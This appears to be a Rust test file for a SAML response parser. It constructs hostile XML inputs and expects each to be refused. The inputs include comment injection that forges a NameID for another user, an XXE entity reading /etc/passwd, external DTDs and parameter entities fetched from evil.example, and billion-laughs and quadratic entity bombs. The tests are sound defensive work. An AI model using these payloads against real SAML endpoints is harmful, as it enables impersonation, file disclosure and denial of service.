//! Markup that hides, splits, swells or fetches.

use saml::response::Refused;

use super::attacks;
use crate::forge::{Signed, base};

/// A response that is signed in both places, as Okta sends it.
fn honest() -> String {
    base(Signed::Response).response()
}

/// An honest response behind a document type declaration.
fn declared(declaration: &str) -> String {
    format!("<!DOCTYPE r [{declaration}]>{}", honest())
}

/// What a customer of the same provider gets signed, and how a comment makes another of it.
fn split(with: &str) -> String {
    let mut shape = base(Signed::Assertion);
    shape.name_id = "mira@acme.example.evil.example".into();
    shape.attributes.clear();
    shape
        .response()
        .replace(".evil.example", &format!("{with}.evil.example"))
}

fn nested(depth: usize) -> String {
    let inside = format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth));
    honest().replace("<saml2p:Status>", &format!("{inside}<saml2p:Status>"))
}

fn repeated(part: fn(usize) -> String) -> String {
    (0..5_000).map(part).collect()
}

fn bomb() -> String {
    let levels: Vec<String> = (1..10)
        .map(|level| {
            let inner = format!("&l{};", level - 1).repeat(10);
            format!(r#"<!ENTITY l{level} "{inner}">"#)
        })
        .collect();
    declared(&format!(r#"<!ENTITY l0 "lol">{}"#, levels.concat()))
        .replace("mira@acme.example", "&l9;")
}

fn quadratic() -> String {
    let entity = format!(r#"<!ENTITY a "{}">"#, "a".repeat(10_000));
    declared(&entity).replace("mira@acme.example", &"&a;".repeat(1_000))
}

attacks! {
    comment_in_name_id (kept) Refused::Comment => split("<!-- -->");
    processing_instruction_in_name_id (kept) Refused::Comment => split("<?x y?>");
    element_in_name_id (kept) Refused::Signature => split("<x/>");
    comment_in_an_attribute_value (kept) Refused::Comment => honest().replace("Mira@Acme", "Mira@<!-- -->Acme");
    comment_in_a_digest (kept) Refused::Comment => honest().replace("<ds:DigestValue>", "<ds:DigestValue><!--AAAA-->");
    comment_before_the_response (kept) Refused::Comment => format!("<!-- -->{}", honest());
    document_type (kept) Refused::Dtd => format!("<!DOCTYPE r>{}", honest());
    external_document_type (kept) Refused::Dtd => format!(r#"<!DOCTYPE r SYSTEM "http://evil.example/r.dtd">{}"#, honest());
    external_entity (kept) Refused::Dtd => declared(r#"<!ENTITY f SYSTEM "file:///etc/passwd">"#)
        .replace("mira@acme.example", "&f;");
    parameter_entity (kept) Refused::Dtd => declared(r#"<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;"#);
    entity_bomb (kept) Refused::Dtd => bomb();
    quadratic_entity_bomb (kept) Refused::Dtd => quadratic();
    undeclared_entity (kept) Refused::Unreadable => honest().replace("mira@acme.example", "&who;");
    default_attribute_by_document_type (kept) Refused::Dtd => declared(r#"<!ATTLIST saml2:Assertion ID ID "_other">"#);
    ten_mebibytes (made) Refused::TooLarge => honest().replace(
        "<saml2p:Status>",
        &format!("<saml2p:Extensions>{}</saml2p:Extensions><saml2p:Status>", " ".repeat(10 << 20)),
    );
    deep_nesting (kept) Refused::Unreadable | Refused::TooLarge => nested(40);
    very_deep_nesting (made) Refused::Unreadable | Refused::TooLarge => nested(30_000);
    many_elements (made) Refused::TooLarge => honest().replace(
        "<saml2p:Status>",
        &format!("{}<saml2p:Status>", "<a/>".repeat(40_000)),
    );
    many_attributes (made) Refused::TooLarge => {
        let many = repeated(|n| format!(r#" a{n}="""#));
        honest().replace("<saml2p:Status>", &format!("<saml2p:Status{many}>"))
    };
    many_namespaces (made) Refused::TooLarge => {
        let many = repeated(|n| format!(r#" xmlns:a{n}="urn:{n}""#));
        honest().replace("<saml2p:Status>", &format!("<saml2p:Status{many}>"))
    };
    truncated (kept) Refused::Unreadable => {
        let honest = honest();
        honest[..honest.len() - 30].to_owned()
    };
    something_after_the_response (kept) Refused::Unreadable => format!("{0}{0}", honest());
    a_web_page (kept) Refused::Incomplete(_) => "<html><body>Sign in</body></html>".to_owned();
    nothing (kept) Refused::Unreadable => String::new();
    not_xml (kept) Refused::Unreadable => r#"{"email":"admin@acme.example"}"#.to_owned();
}
